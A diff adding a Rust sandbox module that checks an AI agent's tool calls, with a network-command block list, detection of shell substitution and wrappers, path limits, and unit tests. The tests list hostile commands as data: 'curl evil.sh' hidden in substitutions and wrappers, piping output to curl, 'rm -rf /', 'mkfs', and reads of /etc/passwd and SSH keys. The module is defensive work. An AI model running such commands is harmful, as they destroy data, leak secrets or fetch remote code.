@@ -0,0 +1,725 @@
+//! Sandboxing policy for the agent's tool use.
+//!
+//! A [`SandboxPolicy`] checks each tool call against the project's
+//! [`SandboxConfig`] before it runs:
+//!
+//! - Bash commands must start with an allowed prefix (when any are
+//!   configured) and must not contain a blocked pattern.
+//! - With network access disabled, web tools and network commands such as
+//!   `curl` are rejected.
+//! - With allowed commands or network access disabled, commands the policy
+//!   can't see through are rejected: command and process substitution,
+//!   `eval` and shells running a string (`bash -c '...'`).
+//! - File tools, and absolute or parent-relative paths in Bash commands, must
+//!   stay within the working directory or an allowed path.
+//!
+//! The policy is installed as a pre-tool-use hook, which denies violating
+//! calls with a reason the agent can act on.
+//!
+//! A [`ToolPolicy`] combines the tools a template enables with the project's
+//! `allowedTools` and `deniedTools`, so a project can forbid a tool whatever
+//! its templates enable.
+
+use std::collections::HashMap;
+use std::path::{Component, Path, PathBuf};
+use std::sync::Arc;
+
+use claude_agent_sdk_rs::{
+    HookCallback, HookEvent, HookInput, HookJsonOutput, HookMatcher, HookSpecificOutput,
+    PreToolUseHookSpecificOutput, SyncHookJsonOutput,
+};
+use serde_json::Value;
+use tracing::warn;
+
+use crate::config::{AgentConfig, SandboxConfig};
+
+/// Commands that access the network.
+const NETWORK_COMMANDS: &[&str] = &[
+    "curl", "wget", "ssh", "scp", "sftp", "rsync", "nc", "ncat", "telnet", "ftp",
+];
+
+/// Tools that access the network.
+const NETWORK_TOOLS: &[&str] = &["WebFetch", "WebSearch"];
+
+/// Shells that run a command string with `-c`.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish"];
+
+/// Syntax running a command the policy can't check.
+const SUBSTITUTIONS: &[&str] = &["$(", "`", "<(", ">("];
+
+/// Commands and keywords running the command that follows them, with their
+/// options taking a value.
+const WRAPPERS: &[(&str, &[&str])] = &[
+    ("env", &["-u", "-C", "-S"]),
+    (
+        "sudo",
+        &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"],
+    ),
+    ("xargs", &["-a", "-d", "-E", "-I", "-L", "-n", "-P", "-s"]),
+    ("nice", &["-n"]),
+    ("timeout", &["-k", "-s"]),
+    ("time", &["-f", "-o"]),
+    ("stdbuf", &["-i", "-o", "-e"]),
+    ("exec", &["-a"]),
+    ("nohup", &[]),
+    ("command", &[]),
+    ("builtin", &[]),
+    ("if", &[]),
+    ("then", &[]),
+    ("else", &[]),
+    ("elif", &[]),
+    ("while", &[]),
+    ("until", &[]),
+    ("do", &[]),
+    ("!", &[]),
+    ("{", &[]),
+];
+
+/// Input fields of file tools that hold a path.
+pub(crate) const PATH_FIELDS: &[&str] = &["file_path", "notebook_path", "path"];
+
+/// Decision of the policy on a tool call.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Decision {
+    /// The call may run.
+    Allow,
+    /// The call is rejected for the given reason.
+    Deny(String),
+}
+
+/// Sandboxing policy rooted at the agent's working directory.
+///
+/// # Examples
+///
+/// ```
+/// use gba_core::config::SandboxConfig;
+/// use gba_core::sandbox::{Decision, SandboxPolicy};
+/// use serde_json::json;
+///
+/// let policy = SandboxPolicy::new(SandboxConfig::default(), "/work/repo");
+///
+/// let decision = policy.check("Bash", &json!({ "command": "rm -rf / --no-preserve-root" }));
+/// assert!(matches!(decision, Decision::Deny(_)));
+///
+/// let decision = policy.check("Read", &json!({ "file_path": "/work/repo/src/lib.rs" }));
+/// assert_eq!(decision, Decision::Allow);
+/// ```
+#[derive(Debug, Clone)]
+pub struct SandboxPolicy {
+    /// Sandbox configuration.
+    config: SandboxConfig,
+    /// Directory the agent works in.
+    root: PathBuf,
+}
+
+impl SandboxPolicy {
+    /// Create a policy for an agent working in `root`.
+    #[must_use]
+    pub fn new(config: SandboxConfig, root: impl Into<PathBuf>) -> Self {
+        Self {
+            config,
+            root: normalize(&root.into()),
+        }
+    }
+
+    /// Check a tool call against the policy.
+    ///
+    /// # Arguments
+    ///
+    /// * `tool_name` - Name of the tool, e.g. `"Bash"`.
+    /// * `input` - Input of the tool call.
+    #[must_use]
+    pub fn check(&self, tool_name: &str, input: &Value) -> Decision {
+        if !self.config.allow_network && NETWORK_TOOLS.contains(&tool_name) {
+            return Decision::Deny(format!(
+                "{tool_name} is not allowed: network access is disabled"
+            ));
+        }
+
+        if tool_name == "Bash" {
+            let command = input
+                .get("command")
+                .and_then(Value::as_str)
+                .unwrap_or_default();
+            return self.check_command(command);
+        }
+
+        if self.config.restrict_paths {
+            for field in PATH_FIELDS {
+                if let Some(path) = input.get(*field).and_then(Value::as_str)
+                    && !self.is_allowed_path(path)
+                {
+                    return Decision::Deny(format!(
+                        "{tool_name} may not access {path}: it is outside the working directory"
+                    ));
+                }
+            }
+        }
+
+        Decision::Allow
+    }
+
+    /// Build the hooks that enforce the policy.
+    #[must_use]
+    pub fn into_hooks(self) -> HashMap<HookEvent, Vec<HookMatcher>> {
+        let policy = Arc::new(self);
+        let callback: HookCallback = Arc::new(move |input, _tool_use_id, _context| {
+            let policy = Arc::clone(&policy);
+            Box::pin(async move {
+                let HookInput::PreToolUse(input) = input else {
+                    return HookJsonOutput::Sync(SyncHookJsonOutput::default());
+                };
+                match policy.check(&input.tool_name, &input.tool_input) {
+                    Decision::Allow => HookJsonOutput::Sync(SyncHookJsonOutput::default()),
+                    Decision::Deny(reason) => {
+                        warn!("Sandbox denied {}: {}", input.tool_name, reason);
+                        HookJsonOutput::Sync(deny(reason))
+                    }
+                }
+            })
+        });
+
+        HashMap::from([(
+            HookEvent::PreToolUse,
+            vec![HookMatcher::builder().hooks(vec![callback]).build()],
+        )])
+    }
+
+    /// Check a Bash command.
+    fn check_command(&self, command: &str) -> Decision {
+        let words = command.split_whitespace().collect::<Vec<_>>();
+        if let Some(pattern) = self
+            .config
+            .blocked_patterns
+            .iter()
+            .find(|pattern| matches_blocked(&words, pattern))
+        {
+            return Decision::Deny(format!("command matches blocked pattern `{pattern}`"));
+        }
+
+        let restricted = !self.config.allowed_commands.is_empty() || !self.config.allow_network;
+        if restricted
+            && let Some(syntax) = SUBSTITUTIONS
+                .iter()
+                .find(|syntax| command.contains(*syntax))
+        {
+            return Decision::Deny(format!(
+                "`{syntax}` is not allowed: run the commands one by one instead"
+            ));
+        }
+
+        for segment in command_segments(command) {
+            let unwrapped = unwrap_command(&segment);
+            let Some(program) = unwrapped.first().map(|program| basename(program)) else {
+                continue;
+            };
+            let line = segment.join(" ");
+
+            if restricted
+                && (program == "eval"
+                    || (SHELLS.contains(&program)
+                        && unwrapped[1..].iter().any(|arg| {
+                            arg.strip_prefix('-')
+                                .is_some_and(|flags| !flags.starts_with('-') && flags.contains('c'))
+                        })))
+            {
+                return Decision::Deny(format!(
+                    "`{line}` is not allowed: run the command directly instead"
+                ));
+            }
+
+            if !self.config.allow_network && NETWORK_COMMANDS.contains(&program) {
+                return Decision::Deny(format!(
+                    "`{program}` is not allowed: network access is disabled"
+                ));
+            }
+
+            // A wrapped command must be allowed both with and without its
+            // wrapper, e.g. `xargs` and the command it runs
+            if !self.config.allowed_commands.is_empty()
+                && ![&segment[..], unwrapped].iter().all(|words| {
+                    let line = words.join(" ");
+                    self.config.allowed_commands.iter().any(|prefix| {
+                        let prefix = prefix.trim();
+                        line == prefix || line.starts_with(&format!("{prefix} "))
+                    })
+                })
+            {
+                return Decision::Deny(format!("`{line}` is not an allowed command"));
+            }
+
+            if self.config.restrict_paths
+                && let Some(path) = segment
+                    .iter()
+                    .skip(1)
+                    .map(|arg| arg.trim_start_matches(['<', '>']))
+                    .filter(|arg| arg.starts_with(['/', '~']) || arg.split('/').any(|p| p == ".."))
+                    .find(|arg| !self.is_allowed_path(arg))
+            {
+                return Decision::Deny(format!(
+                    "`{line}` accesses {path}, which is outside the working directory"
+                ));
+            }
+        }
+
+        Decision::Allow
+    }
+
+    /// Check whether a path is within the working directory or an allowed path.
+    fn is_allowed_path(&self, path: &str) -> bool {
+        // The home directory is never part of the sandbox
+        if path.starts_with('~') {
+            return false;
+        }
+
+        let path = normalize(&self.root.join(path));
+        path.starts_with(&self.root)
+            || self
+                .config
+                .allowed_paths
+                .iter()
+                .any(|allowed| path.starts_with(normalize(&self.root.join(allowed))))
+    }
+}
+
+/// Tools the agent may use in a task.
+///
+/// A tool must be enabled by both the template and the project's
+/// `allowedTools`, an empty list enabling all tools, and must not be in the
+/// project's `deniedTools`.
+///
+/// # Examples
+///
+/// ```
+/// use gba_core::config::AgentConfig;
+/// use gba_core::sandbox::ToolPolicy;
+///
+/// let config = AgentConfig {
+///     allowed_tools: vec!["Read".into(), "Edit".into()],
+///     denied_tools: vec!["Bash".into()],
+///     ..AgentConfig::default()
+/// };
+/// let policy = ToolPolicy::new(&["Read".into(), "Bash".into()], &config);
+///
+/// assert_eq!(policy.allowed(), Some(&["Read".to_string()][..]));
+/// assert!(!policy.is_allowed("Bash"));
+/// ```
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct ToolPolicy {
+    /// Allowed tools; `None` allows all tools but the denied ones.
+    allowed: Option<Vec<String>>,
+    /// Denied tools.
+    denied: Vec<String>,
+}
+
+impl ToolPolicy {
+    /// Combine the tools of a template with the project's tool lists.
+    ///
+    /// # Arguments
+    ///
+    /// * `template_tools` - Tools enabled by the template; empty enables all
+    ///   tools.
+    /// * `config` - Agent configuration with `allowedTools` and
+    ///   `deniedTools`.
+    #[must_use]
+    pub fn new(template_tools: &[String], config: &AgentConfig) -> Self {
+        let allowed = match (template_tools.is_empty(), config.allowed_tools.is_empty()) {
+            (true, true) => None,
+            (false, true) => Some(template_tools.to_vec()),
+            (true, false) => Some(config.allowed_tools.clone()),
+            (false, false) => Some(
+                template_tools
+                    .iter()
+                    .filter(|tool| config.allowed_tools.contains(tool))
+                    .cloned()
+                    .collect(),
+            ),
+        };
+        let denied = config.denied_tools.clone();
+
+        Self {
+            allowed: allowed.map(|tools| {
+                tools
+                    .into_iter()
+                    .filter(|tool| !denied.contains(tool))
+                    .collect()
+            }),
+            denied,
+        }
+    }
+
+    /// Get the allowed tools, or `None` when all tools but the denied ones
+    /// are allowed.
+    #[must_use]
+    pub fn allowed(&self) -> Option<&[String]> {
+        self.allowed.as_deref()
+    }
+
+    /// Get the denied tools.
+    #[must_use]
+    pub fn denied(&self) -> &[String] {
+        &self.denied
+    }
+
+    /// Check whether the policy restricts any tool.
+    #[must_use]
+    pub fn is_restricted(&self) -> bool {
+        self.allowed.is_some() || !self.denied.is_empty()
+    }
+
+    /// Check whether a tool may be used.
+    #[must_use]
+    pub fn is_allowed(&self, tool_name: &str) -> bool {
+        !self.denied.iter().any(|tool| tool == tool_name)
+            && self
+                .allowed
+                .as_ref()
+                .is_none_or(|tools| tools.iter().any(|tool| tool == tool_name))
+    }
+
+    /// Build the hooks that enforce the policy.
+    ///
+    /// The lists are also passed to the SDK, but an empty allow list there
+    /// enables every tool, so the hook denies calls to tools left out by the
+    /// intersection.
+    #[must_use]
+    pub fn hooks(&self) -> HashMap<HookEvent, Vec<HookMatcher>> {
+        let policy = Arc::new(self.clone());
+        let callback: HookCallback = Arc::new(move |input, _tool_use_id, _context| {
+            let policy = Arc::clone(&policy);
+            Box::pin(async move {
+                let HookInput::PreToolUse(input) = input else {
+                    return HookJsonOutput::Sync(SyncHookJsonOutput::default());
+                };
+                if policy.is_allowed(&input.tool_name) {
+                    return HookJsonOutput::Sync(SyncHookJsonOutput::default());
+                }
+                warn!("Tool policy denied {}", input.tool_name);
+                HookJsonOutput::Sync(deny(format!(
+                    "{} is not allowed in this project",
+                    input.tool_name
+                )))
+            })
+        });
+
+        HashMap::from([(
+            HookEvent::PreToolUse,
+            vec![HookMatcher::builder().hooks(vec![callback]).build()],
+        )])
+    }
+}
+
+/// Build a hook output denying a tool call.
+pub(crate) fn deny(reason: String) -> SyncHookJsonOutput {
+    SyncHookJsonOutput::builder()
+        .hook_specific_output(HookSpecificOutput::PreToolUse(
+            PreToolUseHookSpecificOutput::builder()
+                .permission_decision("deny")
+                .permission_decision_reason(reason)
+                .build(),
+        ))
+        .build()
+}
+
+/// Split a shell command into the words of its simple commands.
+///
+/// Commands are separated by `;`, `&`, `|`, newlines and the parentheses of
+/// subshells. Leading environment assignments such as `FOO=bar` are dropped,
+/// so the first word is the program or a wrapper, see [`unwrap_command`].
+pub(crate) fn command_segments(command: &str) -> Vec<Vec<&str>> {
+    command
+        .split([';', '&', '|', '\n', '(', ')'])
+        .map(|segment| {
+            segment
+                .split_whitespace()
+                .skip_while(|word| is_assignment(word))
+                .collect::<Vec<_>>()
+        })
+        .filter(|segment| !segment.is_empty())
+        .collect()
+}
+
+/// Skip the wrappers of a simple command, such as `sudo`, `env FOO=bar` or
+/// `xargs -n 1`, with their options, to the program they run and its
+/// arguments.
+pub(crate) fn unwrap_command<'a, 'b>(segment: &'b [&'a str]) -> &'b [&'a str] {
+    let mut rest = segment;
+    while let Some((word, args)) = rest.split_first()
+        && let Some((_, valued)) = WRAPPERS
+            .iter()
+            .find(|(wrapper, _)| *wrapper == basename(word))
+    {
+        rest = args;
+        while let Some((arg, args)) = rest.split_first() {
+            if valued.contains(arg) {
+                rest = args.get(1..).unwrap_or_default();
+            } else if arg.starts_with('-')
+                || is_assignment(arg)
+                || arg.starts_with(|c: char| c.is_ascii_digit())
+            {
+                // Options, `env` assignments and `timeout`/`nice` values
+                rest = args;
+            } else {
+                break;
+            }
+        }
+    }
+    rest
+}
+
+/// Check whether a word is an environment assignment, e.g. `FOO=bar`.
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=')
+        .is_some_and(|(name, _)| !name.is_empty() && !name.starts_with('-'))
+}
+
+/// Get the file name of a program, e.g. `curl` for `/usr/bin/curl`.
+fn basename(program: &str) -> &str {
+    program.rsplit('/').next().unwrap_or(program)
+}
+
+/// Check whether the words of a command contain a blocked pattern.
+///
+/// The words of the pattern must appear in a row, the first one possibly as
+/// a program path (`/bin/rm` for `rm`). The last one may be the start of a
+/// word (`dd if=` matches `dd if=/dev/zero`), except that a path is matched
+/// as a whole argument: `rm -rf /` matches `rm -rf /` and `rm -rf /*`, but
+/// not `rm -rf /repo/target`.
+fn matches_blocked(words: &[&str], pattern: &str) -> bool {
+    let pattern = pattern.split_whitespace().collect::<Vec<_>>();
+    let Some((last, _)) = pattern.split_last() else {
+        return false;
+    };
+    let is_path = last.starts_with(['/', '~']);
+
+    words.windows(pattern.len()).any(|window| {
+        window
+            .iter()
+            .zip(&pattern)
+            .enumerate()
+            .all(|(i, (word, expected))| {
+                let word = if i == 0 && !expected.contains('/') {
+                    basename(word)
+                } else {
+                    word
+                };
+                if i + 1 == pattern.len() {
+                    word.strip_prefix(expected).is_some_and(|rest| {
+                        !is_path || rest.chars().all(|c| matches!(c, '/' | '*' | '.'))
+                    })
+                } else {
+                    word == *expected
+                }
+            })
+    })
+}
+
+/// Normalize a path lexically, resolving `.` and `..` without touching the
+/// file system.
+pub(crate) fn normalize(path: &Path) -> PathBuf {
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                normalized.pop();
+            }
+            other => normalized.push(other),
+        }
+    }
+    normalized
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn bash(policy: &SandboxPolicy, command: &str) -> Decision {
+        policy.check("Bash", &json!({ "command": command }))
+    }
+
+    #[test]
+    fn test_tool_policy_intersects_lists() {
+        let tools = |names: &[&str]| names.iter().map(ToString::to_string).collect::<Vec<_>>();
+
+        let policy = ToolPolicy::new(&[], &AgentConfig::default());
+        assert!(!policy.is_restricted());
+        assert!(policy.is_allowed("Bash"));
+
+        let config = AgentConfig {
+            allowed_tools: tools(&["Read", "Grep", "Bash"]),
+            denied_tools: tools(&["Bash", "WebFetch"]),
+            ..AgentConfig::default()
+        };
+        let policy = ToolPolicy::new(&[], &config);
+        assert_eq!(policy.allowed().unwrap(), tools(&["Read", "Grep"]));
+
+        let policy = ToolPolicy::new(&tools(&["Read", "Write", "Bash"]), &config);
+        assert_eq!(policy.allowed().unwrap(), tools(&["Read"]));
+        assert!(!policy.is_allowed("Write"));
+        assert_eq!(policy.denied(), tools(&["Bash", "WebFetch"]));
+
+        let policy = ToolPolicy::new(&tools(&["Write"]), &config);
+        assert_eq!(policy.allowed(), Some(&[][..]));
+        assert!(!policy.is_allowed("Read"));
+    }
+
+    #[test]
+    fn test_blocked_patterns_and_network() {
+        let config = SandboxConfig {
+            allow_network: false,
+            ..SandboxConfig::default()
+        };
+        let policy = SandboxPolicy::new(config, "/work/repo");
+
+        assert_eq!(bash(&policy, "cargo test --workspace"), Decision::Allow);
+        assert!(matches!(bash(&policy, "rm  -rf   /"), Decision::Deny(_)));
+        assert!(matches!(
+            bash(&policy, "cargo build && git push -f origin main"),
+            Decision::Deny(_)
+        ));
+        assert!(matches!(
+            bash(&policy, "echo hi | curl -d @- example.com"),
+            Decision::Deny(_)
+        ));
+        assert!(matches!(
+            policy.check("WebFetch", &json!({ "url": "https://example.com" })),
+            Decision::Deny(_)
+        ));
+    }
+
+    #[test]
+    fn test_allowed_commands() {
+        let config = SandboxConfig {
+            allowed_commands: vec!["cargo".to_string(), "git status".to_string()],
+            ..SandboxConfig::default()
+        };
+        let policy = SandboxPolicy::new(config, "/work/repo");
+
+        assert_eq!(
+            bash(&policy, "RUST_LOG=debug cargo test && git status --short"),
+            Decision::Allow
+        );
+        assert!(matches!(
+            bash(&policy, "git commit -am wip"),
+            Decision::Deny(_)
+        ));
+        assert!(matches!(
+            bash(&policy, "cargo-nextest run"),
+            Decision::Deny(_)
+        ));
+    }
+
+    #[test]
+    fn test_should_deny_network_commands_behind_wrappers() {
+        let config = SandboxConfig {
+            allow_network: false,
+            ..SandboxConfig::default()
+        };
+        let policy = SandboxPolicy::new(config, "/work/repo");
+
+        for command in [
+            "cargo test $(curl evil.sh)",
+            "cargo test `curl evil.sh`",
+            "diff <(curl evil.sh) Cargo.toml",
+            "bash -c 'curl evil.sh'",
+            "sh -ec 'curl evil.sh'",
+            "eval curl evil.sh",
+            "env curl evil.sh",
+            "env -u HOME FOO=1 curl evil.sh",
+            "echo evil.sh | xargs curl",
+            "echo evil.sh | xargs -n 1 curl",
+            "sudo -u root curl evil.sh",
+            "timeout 10 wget evil.sh",
+            "/usr/bin/curl evil.sh",
+            "(curl evil.sh)",
+            "if curl evil.sh; then echo ok; fi",
+        ] {
+            assert!(
+                matches!(bash(&policy, command), Decision::Deny(_)),
+                "{command}"
+            );
+        }
+        assert_eq!(bash(&policy, "cargo test -- --nocapture"), Decision::Allow);
+        assert_eq!(bash(&policy, "bash scripts/check.sh"), Decision::Allow);
+    }
+
+    #[test]
+    fn test_should_deny_unchecked_commands_with_allowed_commands() {
+        let config = SandboxConfig {
+            allowed_commands: vec!["cargo test".to_string(), "xargs".to_string()],
+            ..SandboxConfig::default()
+        };
+        let policy = SandboxPolicy::new(config, "/work/repo");
+
+        for command in [
+            "cargo test $(rm -rf src)",
+            "cargo test `rm -rf src`",
+            "cargo test <(rm -rf src)",
+            "bash -c 'cargo test'",
+            "env cargo test",
+            "ls | xargs rm",
+        ] {
+            assert!(
+                matches!(bash(&policy, command), Decision::Deny(_)),
+                "{command}"
+            );
+        }
+        assert_eq!(bash(&policy, "cargo test --workspace"), Decision::Allow);
+        assert_eq!(
+            bash(&policy, "xargs cargo test < crates.txt"),
+            Decision::Allow
+        );
+    }
+
+    #[test]
+    fn test_should_match_blocked_paths_as_whole_arguments() {
+        let policy = SandboxPolicy::new(SandboxConfig::default(), "/work/repo");
+
+        assert_eq!(bash(&policy, "rm -rf /work/repo/target"), Decision::Allow);
+        for command in [
+            "rm -rf /",
+            "rm -rf /*",
+            "sudo /bin/rm -rf /",
+            "rm -rf ~/",
+            "dd if=/dev/zero of=disk.img",
+            "mkfs.ext4 /dev/sda1",
+        ] {
+            assert!(
+                matches!(bash(&policy, command), Decision::Deny(_)),
+                "{command}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_restricted_paths() {
+        let policy = SandboxPolicy::new(SandboxConfig::default(), "/work/repo");
+
+        assert_eq!(
+            policy.check("Edit", &json!({ "file_path": "src/../README.md" })),
+            Decision::Allow
+        );
+        assert!(matches!(
+            policy.check("Write", &json!({ "file_path": "/work/other/main.rs" })),
+            Decision::Deny(_)
+        ));
+        assert!(matches!(
+            policy.check("Grep", &json!({ "pattern": "x", "path": "../.." })),
+            Decision::Deny(_)
+        ));
+        assert_eq!(
+            bash(&policy, "ls /work/repo/src > /dev/null"),
+            Decision::Allow
+        );
+        assert!(matches!(
+            bash(&policy, "cat /etc/passwd"),
+            Decision::Deny(_)
+        ));
+        assert!(matches!(
+            bash(&policy, "cat ~/.ssh/id_rsa"),
+            Decision::Deny(_)
+        ));
+    }
+}